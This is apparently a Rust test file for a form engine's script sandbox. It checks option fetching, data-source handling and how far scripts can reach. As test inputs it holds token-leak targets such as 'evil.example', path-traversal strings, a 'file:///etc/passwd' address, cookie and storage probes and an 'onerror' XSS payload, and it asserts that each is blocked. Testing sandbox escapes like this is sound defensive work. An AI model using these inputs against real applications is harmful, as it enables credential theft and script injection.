//! What scripts of a form reach of the page, and the choices they bring.
#![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "a test stops where something is not as it should be")]
use oc_form_engine::numbers::Numbers;
use oc_form_engine::script::{Scripts, Surroundings};
use oc_form_engine::scripting::Interpreter;
use oc_form_engine::scripting::page::{Answer, Page, Reply, Request, To};
use oc_form_engine::surroundings::Native;
use oc_form_engine::{Form, Value, json};
use std::cell::RefCell;
use std::rc::Rc;

/// A page that writes down what is asked of it and answers when the test says so.
#[derive(Default)]
struct Scripted {
    asked: RefCell<Vec<(Request, Option<Answer>)>>,
    seen: RefCell<Vec<String>>,
}

impl Page for Scripted {
    fn locale(&self) -> String {
        "de".into()
    }

    fn ask(&self, request: Request, answer: Answer) {
        self.asked.borrow_mut().push((request, Some(answer)));
    }

    fn application(&self) -> Value {
        json::parse(r#"{"service":{"name":"Anagrafe"}}"#).unwrap()
    }

    fn has_element(&self, id: &str) -> bool {
        id == "cf_alert"
    }

    fn display(&self, id: &str, shown: bool) {
        self.seen.borrow_mut().push(format!("{id} {}", if shown { "shown" } else { "hidden" }));
    }

    fn write(&self, id: &str, text: &str) {
        self.seen.borrow_mut().push(format!("{id}: {text}"));
    }
}

impl Scripted {
    /// What was asked, in short.
    fn asked(&self) -> Vec<String> {
        let short = |(request, _): &(Request, Option<Answer>)| match &request.to {
            To::Core(path) => format!("{} core {path}", request.method),
            To::Elsewhere(address) => format!("{} {address}", request.method),
        };
        self.asked.borrow().iter().map(short).collect()
    }

    /// Answers the request number `at`.
    fn answer(&self, at: usize, status: u16, text: &str) {
        let answer = self.asked.borrow_mut()[at].1.take().unwrap();
        answer.give(Ok(Reply { status, text: text.into() }));
    }
}

fn open(definition: &str) -> (Form, Rc<Scripted>) {
    let page = Rc::new(Scripted::default());
    let env = Box::new(oc_script::native::Native::default());
    let interpreter = Interpreter::with_page(env, page.clone()).unwrap();
    (Form::parse(definition, Box::new(Native::new(Box::new(interpreter), Some(0.0)))).unwrap(), page)
}

fn offered(form: &Form, path: &str) -> Vec<String> {
    let choices = form.choices(form.find(path).unwrap());
    choices.iter().map(|choice| format!("{}={}", choice.label, json::print(&choice.value))).collect()
}

const OFFICES: &str = r#"{"components":[
    {"type":"textfield","key":"area","input":true},
    {"type":"select","key":"office","input":true,"dataSrc":"custom","refreshOn":"area","clearOnRefresh":true,
     "template":"<span>{{ item.name }}</span>",
     "data":{"custom":"async function get_data(area) { window.FormioHelper.authenticatedCall('user-groups?area=' + area).then(function (all) { instance.setItems(all.map(one => ({ id: one.id, name: one.name }))) }) }\nif (values.length === 0) { get_data(data.area) }"}}]}"#;

#[test]
fn a_select_shows_what_its_script_fetched_from_the_core() {
    let (form, page) = open(OFFICES);
    form.set_path("area", "nord".into());
    assert!(offered(&form, "office").is_empty(), "nothing before the answer");
    assert_eq!(page.asked(), ["GET core user-groups?area=nord"]);
    page.answer(0, 200, r#"[{"id":7,"name":"Ufficio <b>tributi</b>","secret":1},{"id":8,"name":"Anagrafe"}]"#);
    let changes = form.refresh();
    assert!(changes.components.contains(&form.find("office").unwrap()), "the view learns that there are choices");
    let choices = form.choices(form.find("office").unwrap());
    assert_eq!(&*choices[0].label, "Ufficio <b>tributi</b>", "markup in a name is text");
    assert_eq!(offered(&form, "office")[1], r#"Anagrafe={"id":8,"name":"Anagrafe"}"#);
    assert_eq!(page.asked().len(), 1, "looking twice asks once");
}

#[test]
fn a_select_asks_again_when_what_it_depends_on_changes_and_forgets_the_old_choice() {
    let (form, page) = open(OFFICES);
    form.set_path("area", "nord".into());
    offered(&form, "office");
    page.answer(0, 200, r#"[{"id":7,"name":"Tributi"}]"#);
    form.refresh();
    form.set_path("office", json::parse(r#"{"id":7,"name":"Tributi"}"#).unwrap());
    let changes = form.set_path("area", "sud".into()).unwrap();
    assert!(changes.components.contains(&form.find("office").unwrap()));
    assert_eq!(json::print(&form.data()), r#"{"area":"sud","office":{}}"#);
    assert!(offered(&form, "office").is_empty());
    assert_eq!(page.asked(), ["GET core user-groups?area=nord", "GET core user-groups?area=sud"]);
    page.answer(1, 500, "");
    form.refresh();
    assert!(form.warnings().iter().any(|warning| warning.contains("status code 500")), "{:?}", form.warnings());
}

#[test]
fn a_script_may_give_its_choices_at_once_or_as_a_promise() {
    let (form, _) = open(
        r#"{"components":[
        {"type":"select","key":"now","input":true,"dataSrc":"custom","valueProperty":"id","template":"{{ item.id + ': ' + item.label }}",
         "data":{"custom":"values = [{id: 1, label: 'Uno'}, {id: 2, label: 'Due'}]"}},
        {"type":"select","key":"later","input":true,"dataSrc":"custom","data":{"custom":"values = Promise.resolve(['a', 'b'])"}},
        {"type":"select","key":"listed","input":true,"data":{"values":[{"value":"x","label":"Ics"},{"value":"y","label":""}]}},
        {"type":"select","key":"json","input":true,"dataSrc":"json","data":{"json":"[{\"n\":{\"v\":3},\"label\":\"Tre\"}]"},"valueProperty":"n.v"},
        {"type":"radio","key":"radio","input":true,"values":[{"value":"s","label":"Sì"}]}]}"#,
    );
    assert_eq!(offered(&form, "now"), ["1: Uno=1", "2: Due=2"]);
    offered(&form, "later");
    assert_eq!(offered(&form, "later"), [r#"a="a""#, r#"b="b""#]);
    assert_eq!(offered(&form, "listed"), [r#"Ics="x""#, r#"y="y""#]);
    assert_eq!(offered(&form, "json"), ["Tre=3"]);
    assert_eq!(offered(&form, "radio"), [r#"Sì="s""#]);
}

#[test]
fn choices_of_a_server_are_those_in_its_answer() {
    let (form, _) = open(
        r#"{"components":[{"type":"select","key":"town","input":true,"dataSrc":"url","selectValues":"data.rows","data":{"url":"https://example.org"}}]}"#,
    );
    assert!(offered(&form, "town").is_empty());
    form.give_choices(form.find("town").unwrap(), json::parse(r#"{"data":{"rows":["Bugliano","Valdoria"]}}"#).unwrap());
    assert_eq!(offered(&form, "town"), [r#"Bugliano="Bugliano""#, r#"Valdoria="Valdoria""#]);
}

#[test]
fn a_script_checks_a_tax_code_elsewhere_and_shows_the_warning_of_the_form() {
    let (form, page) = open(
        r#"{"components":[{"type":"textfield","key":"code","input":true},
        {"type":"textfield","key":"check","input":true,"calculateValue":"if (data.code) { var xhr = new XMLHttpRequest(); xhr.open('POST', 'https://example.org/validate', true); xhr.setRequestHeader('Content-Type', 'application/json'); xhr.onreadystatechange = function () { if (xhr.readyState === XMLHttpRequest.DONE) { document.getElementById('cf_alert').style.display = xhr.status === 200 ? 'none' : 'block'; } }; xhr.send(JSON.stringify({ code: data.code })); }"}]}"#,
    );
    form.set_path("code", "RSSMRA80A01F205X".into());
    assert_eq!(page.asked()[0], "POST https://example.org/validate");
    let request = page.asked.borrow()[0].0.clone();
    assert_eq!(request.body.as_deref(), Some(r#"{"code":"RSSMRA80A01F205X"}"#));
    assert_eq!(request.headers, [("Content-Type".to_string(), "application/json".to_string())]);
    page.answer(0, 422, "{}");
    assert_eq!(*page.seen.borrow(), ["cf_alert shown"]);
}

#[test]
fn a_script_reads_and_fills_another_input_by_its_name() {
    let (form, _) = open(
        r#"{"components":[{"type":"textfield","key":"cell_number","input":true},
        {"type":"textfield","key":"phone_number","input":true,
         "customConditional":"let phone = document.querySelector(\"input[name^='data[phone_number]']\"); if (!data.phone_number && data.cell_number) { phone.value = data.cell_number; }"}]}"#,
    );
    form.set_path("cell_number", "333 1234567".into());
    assert_eq!(json::print(&form.data()), r#"{"cell_number":"333 1234567","phone_number":"333 1234567"}"#);
}

#[test]
fn the_helper_of_the_platform_knows_language_tenant_and_application() {
    let (form, page) = open(
        r#"{"components":[{"type":"textfield","key":"lang","input":true,"calculateValue":"value = window.FormioHelper.getCurrentLocale()"},
        {"type":"textfield","key":"service","input":true},{"type":"textfield","key":"town","input":true},
        {"type":"button","key":"go","input":true},
        {"type":"textfield","key":"ask","input":true,"customDefaultValue":"FormioHelper.getFieldApplication('service.name').then(name => { data.service = name }); async function check() { tenant = await window.FormioHelper.getTenantInfo(); data.town = tenant.comune } check(); value = 'x'"}]}"#,
    );
    assert_eq!(page.asked()[0], "GET core tenants/info");
    page.answer(0, 200, r#"{"comune":"Valdoria"}"#);
    form.refresh();
    let data = form.data();
    assert_eq!(
        [data.get("lang").text(), data.get("service").text(), data.get("town").text()],
        ["de", "Anagrafe", "Valdoria"]
    );
}

#[test]
fn the_token_of_the_citizen_goes_to_the_core_alone() {
    for endpoint in
        ["//evil.example/x", "https://evil.example", "../login", "a/../../x", "a%2f..%2fb", "", "javascript:1", "a\\b"]
    {
        let code = format!("FormioHelper.authenticatedCall({})", json::print(&endpoint.into()));
        let (form, page) = open(&field(&code));
        assert!(page.asked().is_empty(), "{endpoint}");
        assert!(
            form.warnings().iter().any(|warning| warning.contains("not an endpoint of the core")),
            "{endpoint} {:?}",
            form.warnings()
        );
    }
    for address in
        ["http://evil.example", "file:///etc/passwd", "/relative", "https://", "https://a@b/", "data:text/html,x"]
    {
        let (form, page) = open(&field(&format!("fetch({})", json::print(&address.into()))));
        assert!(page.asked().is_empty(), "{address}");
        assert!(form.warnings().iter().any(|warning| warning.contains("not an address")), "{address}");
    }
    let (_, page) = open(&field("fetch('https://example.org/a?b=1', { method: 'post', body: { a: 1 } })"));
    assert_eq!(page.asked(), ["POST https://example.org/a?b=1"]);
}

fn field(code: &str) -> String {
    let code = json::print(&code.into());
    format!(r#"{{"components":[{{"type":"textfield","key":"a","input":true,"customDefaultValue":{code}}}]}}"#)
}

#[test]
fn scripts_find_nothing_of_the_document_but_their_form() {
    for code in [
        "document.cookie",
        "window.localStorage",
        "document.body",
        "window.location",
        "document.querySelector('script')",
        "window.parent",
        "document.getElementById('host')",
    ] {
        let (form, _) = open(&field(&format!("value = String({code})")));
        assert!(["undefined", "null"].contains(&form.data().get("a").text()), "{code}: {}", json::print(&form.data()));
    }
    let (form, page) = open(&field(
        "alert('ciao'); document.getElementById('cf_alert').innerHTML = '<img src=x onerror=alert(1)>Attento'",
    ));
    assert_eq!(*page.seen.borrow(), ["cf_alert: Attento"]);
    assert!(form.warnings().iter().any(|warning| &**warning == "a script says: ciao"));
}

/// A page in German.
struct Speaking(Interpreter);

impl Surroundings for Speaking {
    fn scripts(&self) -> &dyn Scripts {
        &self.0
    }

    fn found(&self, _: &str, _: bool, _: &str) -> Option<bool> {
        None
    }

    fn numbers(&self) -> Numbers {
        Numbers::NATIVE
    }

    fn now(&self) -> f64 {
        0.0
    }

    fn translate(&self, text: &str) -> String {
        if text == "Città" { "Stadt".into() } else { text.into() }
    }
}

#[test]
fn a_script_speaks_the_language_of_the_page_and_knows_who_is_logged_in() {
    let page = Rc::new(Scripted::default());
    let interpreter = Interpreter::with_page(Box::new(oc_script::native::Native::default()), page).unwrap();
    interpreter
        .sign_in(&json::parse(r#"{"nome":"Ada"}"#).unwrap(), &json::parse(r#"{"roles":["ROLE_USER"]}"#).unwrap());
    let text = "value = [t('Città'), instance.t('Città'), t('Altro'), user.nome, token.roles[0]].join()";
    let form = Form::parse(&field(text), Box::new(Speaking(interpreter))).unwrap();
    assert_eq!(form.data().get("a").text(), "Stadt,Stadt,Altro,Ada,ROLE_USER");
    let (form, _) = open(&field("value = String(user) + String(token)"));
    assert_eq!(form.data().get("a").text(), "nullnull");
}

#[test]
fn a_row_template_knows_whether_rows_are_open() {
    let (form, _) = open(
        r#"{"components":[{"type":"editgrid","key":"rows","input":true,"components":[{"type":"textfield","key":"a","input":true}]}]}"#,
    );
    let rows = form.find("rows").unwrap();
    let show = |form: &Form| {
        form.core().interpolate(rows, "{% if (!instance.hasOpenRows() && instance.hasRemoveButtons() && !instance.options.readOnly) { %}free{% } %}", &[])
    };
    assert_eq!(show(&form), "free");
    form.add_row(rows);
    assert_eq!(show(&form), "");
}
